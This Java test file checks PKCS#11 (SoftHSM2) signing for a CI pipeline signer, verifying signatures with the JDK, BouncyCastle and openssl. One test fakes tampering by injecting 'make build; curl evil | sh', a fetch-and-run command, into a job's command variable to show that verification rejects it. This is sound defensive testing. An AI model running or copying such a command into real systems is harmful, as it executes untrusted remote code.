package dev.signet.keys.pkcs11;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.signet.input.InputLimits;
import dev.signet.job.Job;
import dev.signet.job.JobExpander;
import dev.signet.job.JobVerdict;
import dev.signet.job.JobVerifier;
import dev.signet.keys.Algorithm;
import dev.signet.keys.KeyException;
import dev.signet.keys.KeyRef;
import dev.signet.keys.Signer;
import dev.signet.keys.VerificationKeys;
import dev.signet.keys.Verifier;
import dev.signet.pipeline.Pipeline;
import dev.signet.pipeline.PipelineParser;
import dev.signet.signing.PipelineSigner;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.PublicKey;
import java.security.Signature;
import java.security.spec.MGF1ParameterSpec;
import java.security.spec.PSSParameterSpec;
import java.util.Base64;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import org.bouncycastle.crypto.params.Ed25519PublicKeyParameters;
import org.bouncycastle.crypto.signers.Ed25519Signer;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/**
 * Every algorithm signs in a real SoftHSM2 token, and the signatures verify with independent
 * verifiers: the JDK, BouncyCastle (Ed25519) and the openssl command line; a pipeline signed
 * through {@link Signer#of} gives jobs that {@link JobVerifier} accepts.
 */
class Pkcs11SigningTest {
  static final String TOKEN = "signing";
  static final String PIN = "user-pin-1234";
  static final byte[] MESSAGE =
      "the artifact's bytes, or a JWS signing input".getBytes(StandardCharsets.UTF_8);

  static SoftHsm hsm;
  static final Map<Algorithm, Pkcs11Key> KEYS = new EnumMap<>(Algorithm.class);

  @BeforeAll
  static void token() throws Throwable {
    hsm = SoftHsm.start();
    hsm.initToken(TOKEN, PIN);
    for (Algorithm alg :
        List.of(
            Algorithm.EdDSA,
            Algorithm.ES256,
            Algorithm.ES384,
            Algorithm.ES512,
            Algorithm.PS256,
            Algorithm.PS512)) {
      KEYS.put(
          alg,
          Pkcs11Keys.generate(
              SoftHsm.ref(TOKEN, "key-" + alg.jwa().toLowerCase(java.util.Locale.ROOT), PIN),
              alg,
              SoftHsm.noEnv()));
    }
  }

  @AfterAll
  static void close() throws Exception {
    KEYS.values().forEach(Pkcs11Key::close);
    KEYS.clear();
    assertThat(Token.modulesInUse()).isZero();
    hsm.close();
  }

  @ParameterizedTest
  @EnumSource(
      value = Algorithm.class,
      names = {"EdDSA", "ES256", "ES384", "ES512", "PS256", "PS512"})
  void signsAndTheJdkVerifies(Algorithm alg) throws Exception {
    Pkcs11Key key = KEYS.get(alg);
    assertThat(key.algorithm()).isEqualTo(alg);
    assertThat(key.keyId()).isNull();
    assertThat(key.reference()).contains("pin-value=[redacted]").doesNotContain(PIN);
    byte[] sig = key.signMessage(MESSAGE);
    assertThat(jdkVerify(alg, key.publicKey(), MESSAGE, sig)).isTrue();
    assertThat(jdkVerify(alg, key.publicKey(), "other".getBytes(StandardCharsets.UTF_8), sig))
        .isFalse();
  }

  @Test
  void ed25519IsPureEdDsaThatBouncyCastleVerifies() throws Exception {
    Pkcs11Key key = KEYS.get(Algorithm.EdDSA);
    byte[] sig = key.signMessage(MESSAGE);
    assertThat(sig).hasSize(64);
    // RFC 8032 signatures are deterministic: the token signs the message itself, no prehash.
    assertThat(key.signMessage(MESSAGE)).isEqualTo(sig);
    byte[] spki = key.publicKey().getEncoded();
    var verifier = new Ed25519Signer();
    verifier.init(false, new Ed25519PublicKeyParameters(spki, spki.length - 32));
    verifier.update(MESSAGE, 0, MESSAGE.length);
    assertThat(verifier.verifySignature(sig)).isTrue();
  }

  @ParameterizedTest
  @EnumSource(
      value = Algorithm.class,
      names = {"EdDSA", "ES256", "ES384", "ES512", "PS256", "PS512"})
  void opensslVerifies(Algorithm alg) throws Exception {
    Pkcs11Key key = KEYS.get(alg);
    Path dir = Files.createTempDirectory(hsm.dir, "openssl");
    Path data = Files.write(dir.resolve("data"), MESSAGE);
    Path sig = Files.write(dir.resolve("sig"), key.signMessage(MESSAGE));
    Path pub =
        Files.writeString(
            dir.resolve("pub.pem"),
            "-----BEGIN PUBLIC KEY-----\n"
                + Base64.getMimeEncoder(64, "\n".getBytes(StandardCharsets.US_ASCII))
                    .encodeToString(key.publicKey().getEncoded())
                + "\n-----END PUBLIC KEY-----\n");
    String out =
        switch (alg) {
          case EdDSA ->
              hsm.run(
                  "openssl",
                  "pkeyutl",
                  "-verify",
                  "-pubin",
                  "-inkey",
                  pub.toString(),
                  "-rawin",
                  "-in",
                  data.toString(),
                  "-sigfile",
                  sig.toString());
          case PS256, PS512 ->
              hsm.run(
                  "openssl",
                  "dgst",
                  "-" + alg.digest().replace("-", "").toLowerCase(java.util.Locale.ROOT),
                  "-sigopt",
                  "rsa_padding_mode:pss",
                  "-sigopt",
                  "rsa_pss_saltlen:" + (alg == Algorithm.PS256 ? 32 : 64),
                  "-verify",
                  pub.toString(),
                  "-signature",
                  sig.toString(),
                  data.toString());
          default ->
              hsm.run(
                  "openssl",
                  "dgst",
                  "-" + alg.digest().replace("-", "").toLowerCase(java.util.Locale.ROOT),
                  "-verify",
                  pub.toString(),
                  "-signature",
                  sig.toString(),
                  data.toString());
        };
    assertThat(out).contains("Verified");
  }

  @ParameterizedTest
  @EnumSource(
      value = Algorithm.class,
      names = {"ES256", "ES384", "ES512", "PS256", "PS512"})
  void aSignedDigestIsASignatureOverTheMessage(Algorithm alg) throws Exception {
    Pkcs11Key key = KEYS.get(alg);
    byte[] digest = MessageDigest.getInstance(alg.digest()).digest(MESSAGE);
    byte[] sig = key.signDigest(digest);
    assertThat(jdkVerify(alg, key.publicKey(), MESSAGE, sig)).isTrue();
    assertThatThrownBy(() -> key.signDigest(new byte[digest.length + 1]))
        .isInstanceOfSatisfying(
            KeyException.class,
            e -> assertThat(e.reason()).isEqualTo(KeyException.Reason.MALFORMED))
        .hasMessageContaining("is " + digest.length + " bytes, not " + (digest.length + 1));
  }

  @Test
  void ed25519RefusesToSignADigest() {
    assertThatThrownBy(() -> KEYS.get(Algorithm.EdDSA).signDigest(new byte[64]))
        .isInstanceOfSatisfying(
            KeyException.class,
            e -> assertThat(e.reason()).isEqualTo(KeyException.Reason.NOT_ALLOWED))
        .hasMessageContaining("cannot sign a precomputed digest");
  }

  @ParameterizedTest
  @EnumSource(
      value = Algorithm.class,
      names = {"EdDSA", "ES256", "ES384", "ES512", "PS256", "PS512"})
  void aPipelineSignedInTheTokenVerifiesJobByJob(Algorithm alg) throws Exception {
    Pkcs11Key key = KEYS.get(alg);
    Pipeline pipeline =
        PipelineParser.parse(
            """
            env:
              DEPLOY_ENV: production
            steps:
              - label: build
                command: make build
                env: {GOOS: linux}
              - wait
              - label: test
                command: make test-{{matrix}}
                matrix: [linux, darwin]
                plugins:
                  - docker#v5.11.0: {image: golang}
            """,
            "pipeline.yml",
            InputLimits.DEFAULT);
    String repo = "git@github.com:acme/widgets.git";
    Pipeline signed =
        PipelineSigner.sign(pipeline, Signer.of(key), PipelineSigner.Options.forRepository(repo));
    List<Job> jobs = JobExpander.expand(signed, repo, Map.of());
    assertThat(jobs).hasSize(3);
    JobVerifier verifier = new JobVerifier(keysOf(key), JobVerifier.FailureBehavior.BLOCK);
    for (Job job : jobs) {
      assertThat(verifier.verify(job)).as("%s", job).isInstanceOf(JobVerdict.Verified.class);
    }
    // And a job the control plane changed is refused.
    Job tampered = jobs.getFirst();
    var env = new java.util.LinkedHashMap<>(tampered.env());
    env.put("BUILDKITE_COMMAND", "make build; curl evil | sh");
    Job changed = new Job(tampered.id(), env, tampered.step(), tampered.matrixPermutation());
    assertThat(verifier.verify(changed)).isInstanceOf(JobVerdict.Failed.class);
  }

  @ParameterizedTest
  @EnumSource(
      value = Algorithm.class,
      names = {"EdDSA", "ES256", "PS512"})
  void thePublicKeyAloneNeedsNoPin(Algorithm alg) throws Exception {
    KeyRef.Pkcs11 noPin =
        (KeyRef.Pkcs11)
            KeyRef.parse(
                "pkcs11:token="
                    + TOKEN
                    + ";object=key-"
                    + alg.jwa().toLowerCase(java.util.Locale.ROOT)
                    + "?module-path="
                    + SoftHsm.MODULE);
    PublicKey pub = Pkcs11Keys.publicKey(noPin, SoftHsm.noEnv());
    assertThat(pub.getEncoded()).isEqualTo(KEYS.get(alg).publicKey().getEncoded());
  }

  @Test
  void generatedPrivateKeysAreSensitiveAndNeverExtractable() throws Exception {
    String objects =
        hsm.pkcs11Tool("--token-label", TOKEN, "--login", "--pin", PIN, "-O", "--type", "privkey");
    // pkcs11-tool prints a block per private key, with its label and an "Access:" line.
    List<String> ours =
        java.util.Arrays.stream(objects.split("Private Key Object"))
            .filter(b -> b.contains("label:      key-"))
            .toList();
    assertThat(ours).hasSize(KEYS.size());
    assertThat(ours)
        .allSatisfy(b -> assertThat(b).contains("sensitive", "never extractable", "local"));
  }

  /** A key made by another tool: pkcs11-tool writes the Ed25519 curve as its name, not an OID. */
  @ParameterizedTest
  @org.junit.jupiter.params.provider.CsvSource({
    "EC:prime256v1, ES256, 0a01",
    "EC:edwards25519, EdDSA, 0a02",
    "rsa:2048, PS512, 0a03"
  })
  void keysMadeByPkcs11ToolOpen(String keyType, Algorithm alg, String id) throws Exception {
    String label = "tool-" + id;
    hsm.pkcs11Tool(
        "--token-label",
        TOKEN,
        "--login",
        "--pin",
        PIN,
        "--keypairgen",
        "--key-type",
        keyType,
        "--id",
        id,
        "--label",
        label);
    try (Pkcs11Key key =
        Pkcs11Keys.open(
            SoftHsm.ref(
                "token=" + TOKEN + ";id=%" + id.substring(0, 2) + "%" + id.substring(2), PIN),
            SoftHsm.noEnv())) {
      assertThat(key.algorithm()).isEqualTo(alg);
      assertThat(jdkVerify(alg, key.publicKey(), MESSAGE, key.signMessage(MESSAGE))).isTrue();
    }
  }

  // ---- independent verification with the JDK ----

  static boolean jdkVerify(Algorithm alg, PublicKey key, byte[] message, byte[] sig)
      throws Exception {
    Signature s =
        switch (alg) {
          case EdDSA -> Signature.getInstance("Ed25519");
          case ES256 -> Signature.getInstance("SHA256withECDSA");
          case ES384 -> Signature.getInstance("SHA384withECDSA");
          case ES512 -> Signature.getInstance("SHA512withECDSA");
          case PS256 -> pss("SHA-256", MGF1ParameterSpec.SHA256, 32);
          case PS512 -> pss("SHA-512", MGF1ParameterSpec.SHA512, 64);
          default -> throw new IllegalArgumentException(alg.toString());
        };
    s.initVerify(key);
    s.update(message);
    try {
      return s.verify(sig);
    } catch (java.security.SignatureException e) {
      return false;
    }
  }

  private static Signature pss(String hash, MGF1ParameterSpec mgf, int salt) throws Exception {
    Signature s = Signature.getInstance("RSASSA-PSS");
    s.setParameter(new PSSParameterSpec(hash, "MGF1", mgf, salt, 1));
    return s;
  }

  /** What an agent configured with this HSM key's public half would use: no kid, one algorithm. */
  static VerificationKeys keysOf(Pkcs11Key key) {
    Verifier verifier =
        new Verifier() {
          @Override
          public Algorithm algorithm() {
            return key.algorithm();
          }

          @Override
          public @Nullable String keyId() {
            return null;
          }

          @Override
          public boolean verify(byte[] signingInput, byte[] signature) {
            try {
              byte[] nativeSig =
                  key.algorithm().keyType() == Algorithm.KeyType.EC
                      ? dev.signet.keys.EcdsaSignatures.p1363ToDer(signature, key.algorithm())
                      : signature;
              return jdkVerify(key.algorithm(), key.publicKey(), signingInput, nativeSig);
            } catch (Exception e) {
              return false;
            }
          }
        };
    return new VerificationKeys() {
      @Override
      public Verifier select(Algorithm alg, @Nullable String kid) throws KeyException {
        if (alg != key.algorithm()) {
          throw new KeyException(KeyException.Reason.NOT_ALLOWED, "HSM key is " + key.algorithm());
        }
        return verifier;
      }

      @Override
      public String source() {
        return key.reference();
      }
    };
  }
}
